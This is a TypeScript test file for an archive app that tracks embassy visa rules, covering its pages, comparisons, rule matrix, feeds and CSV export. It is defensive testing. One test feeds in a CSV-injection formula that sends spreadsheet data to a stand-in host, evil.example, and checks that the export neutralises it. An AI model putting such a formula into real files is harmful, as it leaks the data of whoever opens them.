import { expect, it } from 'vitest';
import type { Archive } from '../../src/archive/archive.ts';
import { addPage, capture } from '../support/seed.ts';
import { NOW, openPages } from './room.ts';

/** A further page of an embassy, with one sentence for two rules. */
function publishAges(archive: Archive, country: string): void {
  const at = '2026-10-16T00:00:00.000Z';
  const quote = 'Applicants must be aged between 18 and 45.';
  const page = addPage(archive, `embassy-${country}`, `http://${country}.example/eng/k.htm`, at);
  capture(archive, page, at, {
    title: 'Notice',
    language: 'en',
    lines: [quote],
    facts: [
      { fact: 'eligibility.age.max', value: 45, quote, visa: 'K' },
      { fact: 'eligibility.age.min', value: 18, quote, visa: 'K' },
    ],
  });
}

it('says on the start page who has published, who mentions it, who is silent and who cannot be reached', async () => {
  const { get } = await openPages();
  const { body } = await get('/');
  const state = (country: string) =>
    new RegExp(`tile is-(\\w+)"><a href="/sources\\?country=${country}"`).exec(body)?.[1];
  expect([state('US'), state('DE'), state('BR'), state('KE'), state('CN')]).toEqual([
    'published',
    'mentions',
    'silent',
    'unreachable',
    'waiting',
  ]);
});

it('bounds a first publication by the last look without it', async () => {
  const { get } = await openPages();
  expect((await get('/')).body).toMatch(/3 Oct 2026<\/time> – <time[^>]*>18 Oct 2026/);
});

it('lists sources by country, state and health', async () => {
  const { get } = await openPages();
  expect((await get('/sources?country=US')).body.match(/href="\/sources\/[a-z-]+"/g)).toHaveLength(2);
  expect((await get('/sources?state=mentions')).body.match(/href="\/sources\/[a-z-]+"/g)).toEqual([
    'href="/sources/embassy-de"',
  ]);
  expect((await get('/sources?health=never-reached')).body).toContain('/sources/embassy-ke');
  expect((await get('/sources?country=ZW')).body).toContain('No publisher matches');
});

it('shows what a mission asks today, each rule with its sentence and snapshot', async () => {
  const { get, small } = await openPages();
  const { body } = await get('/sources/embassy-us');
  expect(body).toContain('Applicants must be between 18 and 45 years of age');
  expect(body).not.toContain('18 and 40 years of age and');
  expect(body).toContain(`/snapshots/${small.captures.usAfter}`);
  expect(body).toContain(`/compare/${small.captures.usBefore}...${small.captures.usAfter}`);
});

it('says once of a publisher whose pages were never looked at that they were not', async () => {
  const { get } = await openPages();
  const [, chips] = /<p class="chips">(.*?)<\/p>/s.exec((await get('/sources/agency-nia')).body)!;
  expect(chips!.match(/Not checked yet/g)).toHaveLength(1);
});

it('leads from a snapshot to its neighbours in time', async () => {
  const { get, small } = await openPages();
  const before = (await get(`/snapshots/${small.captures.usBefore}`)).body;
  const after = (await get(`/snapshots/${small.captures.usAfter}`)).body;
  expect(before).toContain(`rel="next" href="/snapshots/${small.captures.usAfter}"`);
  expect(after).toContain(`rel="prev" href="/snapshots/${small.captures.usBefore}"`);
});

it('shows the digest of the bytes it replays', async () => {
  const { get, small } = await openPages();
  const { sha256 } = small.archive.captures.snapshot(small.captures.jp)!;
  expect((await get(`/snapshots/${small.captures.jp}`)).body).toContain(sha256);
  const raw = await get(`/snapshots/${small.captures.jp}/raw`);
  expect(raw.headers['x-archive-sha256']).toBe(sha256);
  expect(raw.rawPayload).toEqual(small.archive.captures.bytes({ sha256 }));
});

it('replays a foreign page in a sandbox without script, requests or forms', async () => {
  const { get, small } = await openPages();
  const policy = (await get(`/snapshots/${small.captures.hostile}/raw`)).headers['content-security-policy'] as string;
  expect(policy).toMatch(/^sandbox; default-src 'none'/);
  expect(policy).not.toContain('script');
});

it('keeps the sandbox of a replay that the browser only asks again for', async () => {
  const { get, small } = await openPages();
  const path = `/snapshots/${small.captures.hostile}/raw`;
  const { headers } = await get(path);
  const again = await get(path, { 'if-none-match': headers.etag as string });
  expect([again.statusCode, again.headers['content-security-policy']]).toEqual([
    304,
    headers['content-security-policy'],
  ]);
});

it('compares two snapshots by facts and words, changes only or whole', async () => {
  const { get, small } = await openPages();
  const path = `/compare/${small.captures.usBefore}...${small.captures.usAfter}`;
  const only = (await get(path)).body;
  expect(only).toContain('<del>40</del><ins>45</ins>');
  expect(only).toContain('Maximum age');
  expect(only).not.toContain('No invitation from an employer in China is required.</p>');
  expect((await get(`${path}?whole=1`)).body).toContain('No invitation from an employer in China is required.</p>');
  expect((await get(`${path}?view=side`)).body).toContain('<table class="diff side"');
});

it('lays the rules of missions side by side and hands out the same as CSV', async () => {
  const { get } = await openPages();
  const { body } = await get('/matrix?topic=eligibility');
  expect(body).toMatch(/embassy-jp.*>40<.*embassy-us.*>45</s);
  const csv = (await get('/matrix.csv?topic=eligibility')).body.split('\r\n');
  expect(csv[0]).toBe(
    'source,country,kind,eligibility.age.min,eligibility.age.max,eligibility.degree.min,eligibility.institution,eligibility.fields,eligibility.experience.years,sponsor.required,conflicts',
  );
  expect(csv).toContain('embassy-us,US,embassy,18,45,bachelor,,,,false,');
});

it('sorts the rules by a value', async () => {
  const { get } = await openPages();
  const { body } = await get('/matrix?sort=processing.regular.days');
  expect(body.indexOf('/sources/embassy-us"')).toBeLessThan(body.indexOf('/sources/embassy-jp"'));
});

it('has a designed page for what is not there', async () => {
  const { get } = await openPages();
  for (const path of [
    '/changes/99999',
    '/changes/abc',
    '/snapshots/0',
    '/compare/1...99999',
    '/compare/x',
    '/sources/embassy-xx',
    '/feeds/other.atom',
    '/feeds/changes.exe',
  ]) {
    const { statusCode, body } = await get(path);
    expect([path, statusCode, body.includes('Nothing here')]).toEqual([path, 404, true]);
  }
});

it('says before the first look that no page was read yet, and that a round is due', async () => {
  const { get, small } = await openPages({
    status: () => ({ startedAt: NOW, lastTick: NOW, nextRound: NOW, browser: { available: true }, mail: 'mailbox' }),
  });
  small.archive.db.exec('UPDATE page SET checked_at = NULL, succeeded_at = NULL, failure_streak = 0');
  const { body } = await get('/status');
  expect(body).toContain('No page has been read yet');
  expect(body).not.toContain('Every watched page answers');
  expect(body).toMatch(/Next round<\/dt><dd>under way, or about to begin/);
});

it('tells of pages that cannot be read, and why', async () => {
  const { get } = await openPages();
  const { body } = await get('/status');
  expect(body).toContain('/sources/embassy-ke');
  expect(body).toContain('no answer in time');
});

it('pages a long list instead of loading it whole', async () => {
  const { get, small } = await openPages();
  const template = small.archive.changes.get(small.ids.mention)!;
  for (let n = 0; n < 30; n++)
    small.archive.changes.add({
      ...template,
      page: small.archive.changes.pageOf(small.ids.mention)!,
      interpreter: '1',
    });
  const first = (await get('/changes')).body;
  const next = /rel="next" href="([^"]+)"/.exec(first)![1]!;
  expect(first.match(/<li class="change /g)).toHaveLength(25);
  expect((await get(next)).body.match(/<li class="change /g)).toHaveLength(9);
});

it('names the place of a snapshot in the hash chain, and spreads the head of the chain', async () => {
  const { get, small } = await openPages();
  const seal = small.archive.seals.of(small.captures.usAfter)!;
  expect((await get(`/snapshots/${small.captures.usAfter}`)).body).toContain(seal.head);
  const head = small.archive.seals.latest()!.head;
  expect((await get('/feeds/changes.atom')).body).toContain(head);
  expect((await get('/feeds/changes.json')).json().description).toContain(head);
  expect((await get('/api/v1/seals?limit=1')).json().items[0].head).toBe(head);
});

it('shows the sentence of several rules once, under these rules', async () => {
  const { get, small } = await openPages();
  publishAges(small.archive, 'br');
  const { body } = await get('/sources/embassy-br');
  expect(body).toMatch(/Minimum age.*?>18<.*?Maximum age.*?>45<.*?Applicants must be aged/s);
  expect(body.split('Applicants must be aged').length - 1).toBe(1);
});

it('says at the head of a mission what changed last and when it was last read', async () => {
  const { get, small } = await openPages();
  const { body } = await get('/sources/embassy-us');
  const head = body.slice(0, body.indexOf('What it asks today'));
  expect(head).toMatch(new RegExp(`Last change: <time.*?href="/changes/${small.ids.amended}"`));
  expect(head).toMatch(/Last read: <time/);
});

it('says of a mission without rules why there are none', async () => {
  const { get, small } = await openPages();
  const why = async (id: string) => /<p class="empty">(.*?)<\/p>/.exec((await get(`/sources/${id}`)).body)?.[1];
  expect(await why('embassy-ke')).toContain('cannot be read now');
  expect(await why('agency-nia')).toContain('have not been read yet');
  expect(await why('embassy-br')).toContain('No rule for the K visa');
  small.archive.db.exec("UPDATE page SET first_with_k = '2026-10-01T00:00:00.000Z' WHERE source_id = 'embassy-br'");
  expect(await why('embassy-br')).toContain('no longer do');
});

it('tells an amendment in a list by its rules, and anything else by its summary', async () => {
  const { get, small } = await openPages();
  const { body } = await get('/changes');
  const line = (id: number) =>
    body.match(/<li class="change.*?<p class="where">/gs)?.find((one) => one.includes(`/changes/${id}"`)) ?? '';
  expect(line(small.ids.amended)).toMatch(/Maximum age.*40.*<b>45<\/b>.*and 1 more rule/s);
  expect(line(small.ids.amended)).not.toContain('class="summary"');
  expect(line(small.ids.published)).toContain('class="summary"');
});

it('tells a value once with all its sentences, and says where the pages of a mission disagree', async () => {
  const { get, small } = await openPages();
  publishAges(small.archive, 'jp');
  const { body } = await get('/sources/embassy-jp');
  const row = (label: string) => body.match(new RegExp(`<tr><th scope="row">${label}.*?</tbody>`, 's'))?.[0] ?? '';
  const values = (label: string) => [...row(label).matchAll(/class="value">(.*?)<\//g)].map(([, value]) => value);
  expect([values('Minimum age'), row('Minimum age').split('<q ').length - 1]).toEqual([['18'], 2]);
  expect(values('Maximum age').toSorted()).toEqual(['40', '45']);
  expect([row('Minimum age').includes('≠'), row('Maximum age').includes('≠')]).toEqual([false, true]);
  const csv = (await get('/matrix.csv?topic=eligibility&country=JP')).body;
  expect(csv).toMatch(/^embassy-jp,.*,eligibility\.age\.max$/m);
});

it('bounds every change by the looks before and after it', async () => {
  const { get, small } = await openPages();
  const { db } = small.archive;
  db.prepare('UPDATE change SET last_without = NULL, first_with = NULL WHERE id = ?').run(small.ids.amended);
  db.prepare("UPDATE change SET detected_at = '2026-10-20T09:30:00.000Z' WHERE id = ?").run(small.ids.amended);
  const { body } = await get(`/changes/${small.ids.amended}`);
  expect(body).toMatch(/Last seen as it was<\/dt><dd><time datetime="2026-10-02T08:00/);
  expect(body).toMatch(/First seen with it<\/dt><dd><time datetime="2026-10-20T09:30/);
});

it('leaves out the columns of rules that nobody states, and names these rules', async () => {
  const { get } = await openPages();
  const { body } = await get('/matrix');
  const heads = [...body.matchAll(/<th scope="col".*?>([^<]+)<\/a>/g)].map(([, head]) => head);
  expect(heads).toContain('Maximum age');
  const unstated = /Stated by nobody here: (.*?)\.</.exec(body)?.[1]?.split(', ') ?? [];
  expect(unstated).toEqual(['Employment']);
  expect(heads.filter((head) => unstated.includes(head!))).toEqual([]);
});

it('sorts the rules both ways and shows those who differ alone', async () => {
  const { get, small } = await openPages();
  const rows = async (query: string) =>
    [...(await get(`/matrix?${query}`)).body.matchAll(/<th scope="row"><a href="\/sources\/([\w-]+)/g)].map(
      ([, id]) => id,
    );
  const up = await rows('sort=eligibility.age.max');
  expect(up.slice(0, 2)).toEqual(['embassy-jp', 'embassy-us']);
  expect((await rows('sort=eligibility.age.max&order=desc')).slice(0, 2)).toEqual(['embassy-us', 'embassy-jp']);
  expect(await rows('country=JP')).toEqual(['embassy-jp']);
  // With three who state an age there is a usual value, and one who differs from it.
  const page = addPage(small.archive, 'embassy-br', 'http://br.example/k.htm', '2026-10-05T00:00:00.000Z');
  capture(small.archive, page, '2026-10-05T00:00:00.000Z', {
    title: 'Visto K',
    language: 'pt',
    lines: ['Idade máxima: 40 anos.'],
    facts: [{ fact: 'eligibility.age.max', value: 40, quote: 'Idade máxima: 40 anos.', visa: 'K' }],
  });
  expect(await rows('only=differs')).toEqual(['embassy-us']);
});

it('leads from two picked versions to their comparison, in the language of the reader', async () => {
  const { get } = await openPages();
  const { statusCode, headers } = await get('/compare?lang=zh&before=4&after=5');
  expect([statusCode, headers.location]).toEqual([303, '/compare/4...5?lang=zh']);
  expect((await get('/compare?before=4')).body).toContain('value="4"');
});

it('hands out no cell that a spreadsheet would run', async () => {
  const { get, small } = await openPages();
  const page = addPage(small.archive, 'embassy-br', 'http://br.example/k.htm', '2026-10-05T00:00:00.000Z');
  const value = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  capture(small.archive, page, '2026-10-05T00:00:00.000Z', {
    title: 'K',
    language: 'pt',
    lines: [value],
    facts: [{ fact: 'eligibility.institution', value, quote: value, visa: 'K' }],
  });
  const { body } = await get('/matrix.csv?topic=eligibility&country=BR');
  expect(body).toContain('"\'=HYPERLINK(');
  expect(body).not.toMatch(/(?:^|,|")=/m);
});
